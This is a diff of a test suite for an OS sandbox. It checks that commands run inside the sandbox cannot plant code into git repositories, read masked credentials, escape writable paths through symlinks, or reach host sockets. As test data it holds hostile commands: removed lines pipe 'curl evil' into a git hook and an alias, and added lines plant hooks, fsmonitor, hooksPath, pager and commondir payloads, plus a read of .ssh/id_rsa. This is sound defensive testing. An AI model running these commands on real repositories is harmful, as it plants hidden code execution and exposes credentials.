@@ -270,47 +270,164 @@ describe('OS sandbox: the credentials of the user running the kit are unreadable
   })
 })
 
-describe('OS sandbox: read-only paths inside the root', () => {
-  it('.git/hooks and .git/config cannot be changed, while commits work', async () => {
-    const repo = path.join(root, 'repo')
-    fs.mkdirSync(repo)
-    expect(spawnSync('git', ['init', '-q', repo]).status).toBe(0)
-    const bash = make().bash
-    const env = 'export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b'
-    // readOnlyPaths are relative to the root: protect this nested repository the same way.
-    const nested = make({ readOnlyPaths: ['repo/.git/hooks/', 'repo/.git/config'] }).bash
-    const before = snapshot(path.join(repo, '.git', 'hooks')) + fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8')
-    for (const script of [
-      'echo "curl evil | sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
-      'git config alias.st "!curl evil"',
-      'git config core.hooksPath /tmp/hooks',
-      'echo "[core] fsmonitor = evil" >> .git/config',
-      'rm -rf .git/hooks',
-    ]) {
-      const result = await attempt(nested, 'sh', ['-c', `cd ${repo} && ${script}`])
-      expect(result.ok, script).toBe(false)
-    }
-    expect(snapshot(path.join(repo, '.git', 'hooks')) + fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8')).toBe(before)
-    const commit = await attempt(nested, 'sh', ['-c', `cd ${repo} && ${env} && echo hi > f && git add f && git commit -qm "see https://x" && git log --format=%s`])
-    expect(commit).toEqual({ ok: true, text: 'see https://x\n' })
-    // The default applies at the root.
-    fs.renameSync(path.join(repo, '.git'), path.join(root, '.git'))
-    try {
-      expect((await attempt(bash, 'sh', ['-c', 'echo evil > .git/hooks/post-checkout'])).ok).toBe(false)
-      expect(fs.existsSync(path.join(root, '.git', 'hooks', 'post-checkout'))).toBe(false)
-    } finally {
-      fs.rmSync(path.join(root, '.git'), { recursive: true, force: true })
+const gitEnv = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' }
+
+/** A repository with one commit at `dir` (made on the host). */
+function makeRepo(dir: string, ...extra: string[]): void {
+  fs.mkdirSync(dir, { recursive: true })
+  expect(spawnSync('git', ['init', '-q', ...extra, dir]).status).toBe(0)
+  fs.writeFileSync(path.join(dir, 'f.txt'), 'one\n')
+  const commit = spawnSync('sh', ['-c', 'git add f.txt && git commit -qm one'], { cwd: dir, env: { ...process.env, ...gitEnv } })
+  expect(commit.status, String(commit.stderr)).toBe(0)
+}
+
+/** What git would run on the host in `dir`: hooks, hooksPath, fsmonitor, aliases, commondir. */
+function gitTraps(dir: string): string {
+  const config = spawnSync('git', ['config', '--list', '--show-origin'], { cwd: dir, encoding: 'utf8' }).stdout
+  const gitDir = spawnSync('git', ['rev-parse', '--absolute-git-dir'], { cwd: dir, encoding: 'utf8' }).stdout.trim()
+  const hooks = fs.existsSync(path.join(gitDir, 'hooks')) ? fs.readdirSync(path.join(gitDir, 'hooks')).filter((h) => !h.endsWith('.sample')) : []
+  return JSON.stringify({ config: config.split('\n').filter((l) => /fsmonitor|hookspath|alias|pager|editor|sshcommand/i.test(l)), hooks, commondir: fs.existsSync(path.join(gitDir, 'commondir')), gitDir })
+}
+
+describe('OS sandbox: the repository at the root cannot be made to run code later', () => {
+  // The routes a security review found against protecting only .git/hooks and .git/config.
+  const plants: [string, string][] = [
+    ['a hook', 'printf "#!/bin/sh\\necho PWNED > pwned\\n" > .git/hooks/post-commit; chmod +x .git/hooks/post-commit'],
+    ['core.fsmonitor', 'git config core.fsmonitor "echo PWNED > pwned; false"'],
+    ['core.hooksPath', 'mkdir -p h && git config core.hooksPath "$PWD/h"'],
+    ['an alias', 'git config alias.st "!echo PWNED > pwned"'],
+    ['append to config', 'printf "[core]\\n\\tpager = echo PWNED\\n" >> .git/config'],
+    ['rename .git and copy it back with a hook', 'mv .git .git.old && cp -a .git.old .git && printf "#!/bin/sh\\necho PWNED > pwned\\n" > .git/hooks/post-commit && chmod +x .git/hooks/post-commit'],
+    ['commondir pointing at a planted copy', 'cp -a .git .evil && git --git-dir=.evil config core.fsmonitor "echo PWNED > pwned; false" && echo ../.evil > .git/commondir'],
+  ]
+
+  it.each(plants)('%s: refused, and the host repository runs nothing', async (_, script) => {
+    const repo = fs.mkdtempSync(path.join(root, 'repo-'))
+    makeRepo(repo)
+    const before = gitTraps(repo)
+    const bash = make({ readOnlyPaths: [`${path.basename(repo)}/.git`] }).bash
+    await attempt(bash, 'sh', ['-c', `cd ${repo} && ${script}`])
+    expect(gitTraps(repo)).toBe(before)
+    spawnSync('sh', ['-c', 'git status >/dev/null 2>&1; git commit -q --allow-empty -m two >/dev/null 2>&1; git st >/dev/null 2>&1; git log -1 >/dev/null 2>&1'], { cwd: repo, env: { ...process.env, ...gitEnv } })
+    expect(fs.existsSync(path.join(repo, 'pwned')), 'host git ran planted code').toBe(false)
+  })
+
+  it('control: with only .git/hooks and .git/config protected, the commondir route does plant code (the check can fail)', async () => {
+    // (The rename route fails even then: every folder between the root and a protected path is a mount point.)
+    const narrow = ['.git/hooks', '.git/config']
+    for (const [, script] of plants.slice(-1)) {
+      const repo = fs.mkdtempSync(path.join(root, 'repo-'))
+      makeRepo(repo)
+      const name = path.basename(repo)
+      await attempt(make({ readOnlyPaths: narrow.map((p) => `${name}/${p}`) }).bash, 'sh', ['-c', `cd ${repo} && ${script}`])
+      spawnSync('sh', ['-c', 'git status >/dev/null 2>&1; git commit -q --allow-empty -m two >/dev/null 2>&1; git log -1 >/dev/null 2>&1'], { cwd: repo, env: { ...process.env, ...gitEnv } })
+      expect(fs.existsSync(path.join(repo, 'pwned')), script).toBe(true)
     }
   })
 
-  it('a repository without .git/hooks gets an empty read-only one: nothing can be planted', async () => {
-    const repo = path.join(root, 'nohooks')
-    expect(spawnSync('git', ['init', '-q', repo]).status).toBe(0)
-    fs.rmSync(path.join(repo, '.git', 'hooks'), { recursive: true })
-    const bash = make({ readOnlyPaths: ['nohooks/.git/hooks/'] }).bash
-    const result = await attempt(bash, 'sh', ['-c', `mkdir -p ${repo}/.git/hooks; echo evil > ${repo}/.git/hooks/pre-commit`])
-    expect(result.ok).toBe(false)
-    expect(fs.existsSync(path.join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false)
+  it('the default protects the root\'s .git: read works (status, log, diff), writes fail; a missing .git is not created', async () => {
+    makeRepo(path.join(root))
+    try {
+      const before = gitTraps(root)
+      expect((await attempt(tools.bash, 'sh', ['-c', 'git status --short >/dev/null && git log --format=%s && git diff'])).text).toBe('one\n')
+      const plant = await attempt(tools.bash, 'sh', ['-c', 'git config core.fsmonitor "echo PWNED"'])
+      expect(plant.ok).toBe(false)
+      expect(plant.text).toMatch(/Read-only file system|could not lock config file/)
+      expect(gitTraps(root)).toBe(before)
+    } finally {
+      fs.rmSync(path.join(root, '.git'), { recursive: true, force: true })
+    }
+    const bare = fs.mkdtempSync(path.join(root, 'nogit-'))
+    await attempt(make({ readOnlyPaths: [`${path.basename(bare)}/.git`] }).bash, 'true', [])
+    expect(fs.existsSync(path.join(bare, '.git'))).toBe(false)
+  })
+
+  it('a .git file (gitdir:) protects the folder it names', async () => {
+    const work = fs.mkdtempSync(path.join(root, 'work-'))
+    const store = path.join(work, '.gd')
+    makeRepo(work, `--separate-git-dir=${store}`)
+    expect(fs.statSync(path.join(work, '.git')).isFile()).toBe(true)
+    const before = gitTraps(work)
+    const bash = make({ readOnlyPaths: [`${path.basename(work)}/.git`] }).bash
+    expect((await attempt(bash, 'sh', ['-c', `cd ${work} && git config core.fsmonitor "echo PWNED > pwned; false"`])).ok).toBe(false)
+    expect((await attempt(bash, 'sh', ['-c', `echo x > ${store}/hooks/post-commit`])).ok).toBe(false)
+    expect(gitTraps(work)).toBe(before)
+  })
+
+  it('who opts for the narrower list can commit (the trade-off is documented)', async () => {
+    const repo = fs.mkdtempSync(path.join(root, 'repo-'))
+    makeRepo(repo)
+    const name = path.basename(repo)
+    const bash = make({ readOnlyPaths: [`${name}/.git/hooks`, `${name}/.git/config`], env: gitEnv }).bash
+    expect(await attempt(bash, 'sh', ['-c', `cd ${repo} && echo two > f.txt && git commit -qam "see https://x" && git log -1 --format=%s`])).toEqual({ ok: true, text: 'see https://x\n' })
+    expect((await attempt(bash, 'sh', ['-c', `cd ${repo} && echo x > .git/hooks/pre-commit`])).ok).toBe(false)
+  })
+})
+
+describe('OS sandbox: protections cannot be moved away, writable paths cannot be redirected', () => {
+  it('a masked folder inside the root cannot be carried off by renaming its parent', async () => {
+    // The root is the home directory itself: ~/.config/gh and ~/.docker/config.json are masked inside it.
+    const homeRoot = make({ rootDir: home } as SandboxOptions).bash
+    const first = await attempt(homeRoot, 'sh', ['-c', 'mv .config .config-moved; mv .docker .docker-moved; mv .ssh .ssh-moved; ls -A'])
+    expect(first.text).toMatch(/Device or resource busy|Resource busy/)
+    const second = await attempt(homeRoot, 'sh', ['-c', 'cat .config-moved/gh/hosts.yml .docker-moved/config.json .config/gh/hosts.yml .docker/config.json .ssh/id_rsa 2>&1'])
+    expect(second.text).not.toContain(SECRET)
+    for (const name of ['.config', '.docker', '.ssh']) expect(fs.existsSync(path.join(home, name)), name).toBe(true)
+  })
+
+  it('a writable path swapped for a symlink is not bound any more (nothing outside becomes writable)', async () => {
+    const holder = fs.mkdtempSync(path.join(parent, 'toolsmith-holder-'))
+    try {
+      fs.mkdirSync(path.join(holder, 'cache', 'build'), { recursive: true })
+      const victim = path.join(canary, 'deep')
+      const bash = make({ writablePaths: [path.join(holder, 'cache', 'build')] }).bash
+      expect((await attempt(bash, 'sh', ['-c', `echo ok > ${holder}/cache/build/x`])).ok).toBe(true)
+      // The host (or anything else with access) swaps the parent: the sandbox must not follow.
+      fs.renameSync(path.join(holder, 'cache'), path.join(holder, 'cache.old'))
+      fs.mkdirSync(path.join(holder, 'cache'))
+      fs.symlinkSync(victim, path.join(holder, 'cache', 'build'))
+      const before = snapshot(canary)
+      await attempt(bash, 'sh', ['-c', `echo OWNED > ${holder}/cache/build/other.txt; echo OWNED > ${victim}/new.txt`])
+      expect(snapshot(canary)).toBe(before)
+    } finally {
+      fs.rmSync(holder, { recursive: true, force: true })
+    }
+  })
+
+  it.each([
+    [['/proc'], 'not /, /proc'],
+    [['/tmp/x'], 'not /, /proc'],
+    [['/'], 'not /, /proc'],
+    [['/run/user/0'], 'not /, /proc'],
+  ])('writablePaths %j is refused', (paths, message) => {
+    expect(() => make({ writablePaths: paths })).toThrow(expect.objectContaining({ code: 'E_INVALID_OPTIONS', message: expect.stringContaining(message) }))
+  })
+
+  it('a writable path that is the root, inside it, or around it is refused', () => {
+    for (const paths of [[root], [path.join(root, 'src')], [base]]) {
+      expect(() => make({ writablePaths: paths })).toThrow(expect.objectContaining({ code: 'E_INVALID_OPTIONS', message: expect.stringContaining('is the root, inside it, or contains it') }))
+    }
+  })
+
+  it('a program the host finds in its /tmp is TOOL_COMMAND_NOT_FOUND before anything runs; output cannot fake it', async () => {
+    const script = path.join(os.tmpdir(), `toolsmith-prog-${process.pid}.sh`)
+    fs.writeFileSync(script, '#!/bin/sh\necho ran\n', { mode: 0o755 })
+    try {
+      const result = await attempt(tools.bash, script, [])
+      expect(result.code).toBe('TOOL_COMMAND_NOT_FOUND')
+      expect(result.text).toContain('not visible there')
+    } finally {
+      fs.rmSync(script)
+    }
+    const faked = await attempt(tools.bash, 'sh', ['-c', 'echo "bwrap: execvp something"; exit 1'])
+    expect(faked.code).toBe('TOOL_COMMAND_FAILED')
+  })
+
+  it('arguments too large for the kernel are a TOOL_ error, not a raw E2BIG', async () => {
+    const huge = 'é'.repeat(8192)
+    const result = await attempt(tools.bash, 'echo', Array.from({ length: 128 }, () => huge))
+    expect(result.code).toBe('TOOL_COMMAND_FAILED')
+    expect(result.text).toContain('E2BIG')
   })
 })
 
@@ -411,6 +528,34 @@ describe('OS sandbox: the host network and host sockets are unreachable', () => 
     const result = await attempt(open.bash, relayRoute[1], relayRoute[2])
     expect(result.text).not.toContain('HELLO-THROUGH-RELAY')
     expect(hits).toBe(0)
+  })
+
+  it('host sockets inside a root under /tmp, and in a folder of the root, stay unreachable (and cannot be moved back into reach)', async () => {
+    const tmpRoot = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'toolsmith-sockroot-')))
+    fs.mkdirSync(path.join(tmpRoot, 'sub'))
+    const servers: net.Server[] = []
+    try {
+      for (const socket of ['dev.sock', 'sub/d.sock']) {
+        const server = net.createServer((s) => {
+          hits++
+          s.on('error', () => undefined)
+          s.end('HELLO-HOST-DAEMON\n')
+        })
+        await new Promise<void>((resolve) => server.listen(path.join(tmpRoot, socket), resolve))
+        servers.push(server)
+      }
+      const bash = make({ rootDir: tmpRoot } as SandboxOptions).bash
+      const connect = (socket: string) => `require('net').connect(${JSON.stringify(socket)}).on('data', (d) => process.stdout.write(d)).on('error', (e) => console.log(e.code))`
+      const first = await attempt(bash, 'sh', ['-c', `node -e "${connect('dev.sock').replace(/"/g, '\\"')}"; node -e "${connect('sub/d.sock').replace(/"/g, '\\"')}"; mv sub sub2 2>&1; true`])
+      expect(first.text).not.toContain('HELLO-HOST-DAEMON')
+      expect(first.text).toMatch(/busy/i)
+      const second = await attempt(bash, 'node', ['-e', connect(path.join(tmpRoot, 'sub2', 'd.sock'))])
+      expect(second.text).not.toContain('HELLO-HOST-DAEMON')
+      expect(hits).toBe(0)
+    } finally {
+      for (const server of servers) await new Promise((resolve) => server.close(resolve))
+      fs.rmSync(tmpRoot, { recursive: true, force: true })
+    }
   })
 
   it('a command can still use loopback and Unix sockets of its own', async () => {
@@ -529,7 +674,10 @@ describe('OS sandbox: everyday commands run (no word guard where the kernel cuts
     expect((await cwd('git', ['remote', '-v'])).text).toContain('origin\thttps://example.com/p.git (fetch)')
     expect((await cwd('git', ['status', '--short'])).ok).toBe(true)
     expect(await cwd('node', ['x.js', '--base', 'http://localhost:3000'])).toEqual({ ok: true, text: '--base http://localhost:3000\n' })
-    const commit = await cwd('sh', ['-c', 'git add -A && git -c user.name=a -c user.email=a@b commit -qm "see https://x" && git log --format=%s'])
+    // A commit message with a URL is no longer refused by words; the repository itself is read-only by default
+    // (DEFAULT_READ_ONLY_PATHS), so the commit runs where the narrower list is chosen (see the .git specs above).
+    const narrow = createTools({ rootDir: project, readOnlyPaths: ['.git/hooks', '.git/config'], env: gitEnv })
+    const commit = await attempt(narrow.bash, 'sh', ['-c', 'git add -A && git commit -qm "see https://x" && git log -1 --format=%s'])
     expect(commit).toEqual({ ok: true, text: 'see https://x\n' })
   }, 60_000)
 
